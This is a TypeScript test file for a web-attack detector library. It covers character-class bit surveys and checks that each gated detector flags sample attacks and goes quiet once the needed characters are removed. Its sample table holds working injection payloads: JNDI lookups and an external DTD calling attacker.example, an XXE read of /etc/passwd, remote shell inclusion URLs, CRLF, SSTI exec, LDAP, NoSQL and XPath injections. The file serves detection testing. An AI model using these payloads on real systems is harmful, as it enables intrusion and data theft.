import { test } from 'node:test';
import assert from 'node:assert/strict';
import { DETECTORS } from './detect/index.ts';
import type { Detector, DetectorContext, Finding } from './finding.ts';
import {
  CH_AMP, CH_BACKSLASH, CH_CONTROL, CH_DOT, CH_ENTITY, CH_HASH, CH_LINE, CH_LT, CH_NON_ASCII, CH_OVERLONG_LEAD, CH_PERCENT,
  CH_PERCENT_ESCAPE, CH_QUOTE, CH_TAB, surveyChars,
} from './value-chars.ts';

test('the survey sets one bit per character class, and the escape bits only before what continues an escape', () => {
  const cases: [string, number][] = [
    ['plain words 123', 0],
    ['a<b', CH_LT],
    ["O'Brien", CH_QUOTE],
    ['say "hi" `now`', CH_QUOTE],
    ['line\nbreak', CH_LINE],
    ['cr\rhere', CH_LINE],
    ['tab\there', CH_TAB],
    ['nul\u0000', CH_CONTROL],
    ['caf\u00e9', CH_NON_ASCII],
    ['\u00c0\u00af', CH_NON_ASCII | CH_OVERLONG_LEAD],
    ['10% off', CH_PERCENT],
    ['%41', CH_PERCENT | CH_PERCENT_ESCAPE],
    ['%u0041', CH_PERCENT | CH_PERCENT_ESCAPE],
    ['ends with %', CH_PERCENT],
    ['salt & pepper', CH_AMP],
    ['&lt', CH_AMP | CH_ENTITY],
    ['&#60', CH_AMP | CH_ENTITY | CH_HASH],
    ['a\\b', CH_BACKSLASH],
    ['v1.2', CH_DOT],
  ];
  for (const [value, bits] of cases) assert.equal(surveyChars(value), bits, JSON.stringify(value));
  assert.equal(surveyChars(''), 0);
  assert.equal(surveyChars('\u007f'), 0, 'DEL is not a control the nul layer strips');
});

/** Attacks each gated detector finds (written for this test): with the characters it needs, and without them. */
const SAMPLES: Record<string, { value: string; context?: Partial<DetectorContext> }[]> = {
  jndi: [{ value: '${jndi:ldap://attacker.example/a}' }, { value: '${${lower:j}ndi:rmi://x.example/o}' }, { value: 'jndi:ldap://attacker.example/a' }],
  ssi: [{ value: '<!--#exec cmd="id" -->' }, { value: '<esi:include src="http://attacker.example/x"/>' }],
  rfi: [{ value: 'http://203.0.113.7/shell.txt?', context: { name: 'include' } }, { value: 'https://attacker.example/x.php', context: { name: 'page' } }],
  mail: [{ value: 'me@example.com\r\nBcc: victim@example.com', context: { name: 'email' } }, { value: 'x\r\nRCPT TO:<a@example.com>' }],
  crlf: [{ value: 'en\r\nSet-Cookie: session=attacker', context: { source: 'query' } }, { value: 'x\u560d\u560aLocation: //evil.example', context: { source: 'query' } }],
  xxe: [{ value: '<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]><r>&e;</r>' }, { value: '<!ENTITY % p SYSTEM "http://attacker.example/x.dtd">' }],
  ldapi: [{ value: '*)(uid=*))(|(uid=*' }, { value: 'admin)(|(password=*)' }],
  ssti: [{ value: '{{7*7}}' }, { value: '${7*7}' }, { value: '<%= 7*7 %>' }, { value: "#{T(java.lang.Runtime).getRuntime().exec('id')}" }],
  nosqli: [{ value: '$where', context: { isName: true } }, { value: '{"$where": "sleep(5000)"}' }, { value: "'; while(true){}; var x='" }],
  xpathi: [{ value: "' | //password | '" }, { value: '1 or 1=1]|//*|//*[1=1' }, { value: "' or substring(//user[1]/password,1,1)='a" }],
};

function findings(detector: Detector, value: string, context: Partial<DetectorContext> = {}): Finding[] {
  const out: Finding[] = [];
  detector.detect(value, { source: 'body', name: 'field', isName: false, paranoia: 3, layers: [], ...context }, (f) => out.push(f));
  return out;
}

/** `value` without the characters whose survey bits meet `needs`. */
function without(value: string, needs: number): string {
  let out = '';
  for (const ch of value) if ((surveyChars(ch) & needs) === 0) out += ch;
  return out;
}

test('every gated detector finds nothing in a value without the characters it declares it needs', () => {
  const gated = DETECTORS.filter((d) => d.needs !== undefined);
  assert.deepEqual(gated.map((d) => d.category).sort(), Object.keys(SAMPLES).sort(), 'every gated detector has samples');
  for (const detector of gated) {
    const needs = detector.needs!;
    for (const { value, context } of SAMPLES[detector.category]!) {
      assert.ok(findings(detector, value, context).length > 0, `${detector.category} finds ${JSON.stringify(value)}`);
      assert.notEqual(surveyChars(value) & needs, 0, `${detector.category}: the attack has a needed character`);
      const stripped = without(value, needs);
      assert.equal(surveyChars(stripped) & needs, 0);
      assert.deepEqual(findings(detector, stripped, context), [], `${detector.category} on ${JSON.stringify(stripped)}`);
    }
  }
});

test('gated detectors stay silent on random text without their characters', () => {
  // Printable ASCII, line breaks, a few letters past ASCII and look-alikes: what is left after removing what a
  // detector needs must give it nothing, whatever the context.
  const alphabet = [...Array.from({ length: 95 }, (_, k) => String.fromCharCode(32 + k)), '\r', '\n', '\t', '\u00e9', '\u212a', '\uff1c', '\u560a'];
  let seed = 7;
  const next = (n: number) => { seed = (seed * 1103515245 + 12345) & 0x7fffffff; return seed % n; };
  const words = ['jndi', 'ldap', 'include', 'exec', 'DOCTYPE', 'ENTITY', 'SYSTEM', 'uid', 'where', 'sleep', 'Set-Cookie', 'HTTP', 'Bcc', 'db', 'gt', 'ne', 'esi', ' or ', '//', 'substring(', ']'];
  for (const detector of DETECTORS.filter((d) => d.needs !== undefined)) {
    const allowed = alphabet.filter((ch) => (surveyChars(ch) & detector.needs!) === 0);
    for (let k = 0; k < 1500; k++) {
      let value = '';
      const length = 1 + next(60);
      while (value.length < length) value += next(4) === 0 ? words[next(words.length)]! : allowed[next(allowed.length)]!;
      for (const context of [{}, { isName: true }, { source: 'query' as const, name: 'include' }, { source: 'header' as const, name: 'user-agent' }]) {
        assert.deepEqual(findings(detector, value, context), [], `${detector.category} on ${JSON.stringify(value)}`);
      }
    }
  }
});

test('long ASCII values (surveyed from a byte copy) get the same bits as any other value', () => {
  const long = 'x'.repeat(40);
  assert.equal(surveyChars(long + '%41'), CH_PERCENT | CH_PERCENT_ESCAPE);
  assert.equal(surveyChars(long + '%'), CH_PERCENT, 'a `%` at the very end starts no escape');
  assert.equal(surveyChars(long + '&#'), CH_AMP | CH_ENTITY | CH_HASH);
  assert.equal(surveyChars(long + '&'), CH_AMP);
  assert.equal(surveyChars(long + '\u0001'), CH_CONTROL);
  // The byte path (ASCII) and the character path (the same text with one letter past ASCII) agree on every bit.
  let seed = 11;
  const next = (n: number) => { seed = (seed * 1103515245 + 12345) & 0x7fffffff; return seed % n; };
  for (let k = 0; k < 3000; k++) {
    let ascii = '';
    const length = 32 + next(100);
    while (ascii.length < length) ascii += String.fromCharCode(next(128));
    assert.equal(surveyChars('\u00e9' + ascii), surveyChars(ascii) | CH_NON_ASCII, JSON.stringify(ascii));
  }
});
